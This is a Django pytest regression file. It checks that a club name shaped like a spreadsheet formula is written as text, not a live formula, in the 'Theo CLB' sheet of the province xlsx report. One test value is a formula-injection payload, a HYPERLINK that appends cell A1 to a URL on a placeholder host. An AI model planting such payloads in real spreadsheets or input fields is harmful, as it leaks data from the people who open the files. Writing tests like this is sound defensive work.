"""Issue 15: the report xlsx goes through the formula guard of every spreadsheet we write. A club
named =HYPERLINK(…) came back as a live formula in "Theo CLB" (the web file and the command)."""

import io

import pytest
from django.core.management import call_command
from django.urls import reverse
from openpyxl import load_workbook

from clubs.models import Club
from tests.reports.conftest import ON

pytestmark = pytest.mark.django_db
NAME = '=HYPERLINK("http://x/?"&A1,"Bấm")'


@pytest.fixture(autouse=True)
def media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path


def _club_cell(content: bytes):
    sheet = load_workbook(io.BytesIO(content))["Theo CLB"]
    cells = {row[0].value: row[1] for row in sheet.iter_rows(min_row=2)}
    return cells["A"]


def test_the_province_xlsx_writes_a_formula_like_club_name_as_text(client_for, lai_chau_officer, dataset):
    Club.objects.filter(code="A").update(name=NAME)
    response = client_for(lai_chau_officer).get(
        reverse("reports:province-file", args=[12, "xlsx"]), {"as_of": ON.isoformat()}
    )
    assert response.status_code == 200
    cell = _club_cell(response.content)
    assert (cell.value, cell.data_type) == (NAME, "s")


def test_the_report_command_writes_it_as_text_too(dataset, tmp_path):
    Club.objects.filter(code="A").update(name=NAME)
    output = tmp_path / "bao-cao.xlsx"
    call_command("report", "--province", "12", "--as-of", ON.isoformat(), "--format", "xlsx", "--output", str(output),
                 stdout=io.StringIO())  # fmt: skip
    cell = _club_cell(output.read_bytes())
    assert (cell.value, cell.data_type) == (NAME, "s")
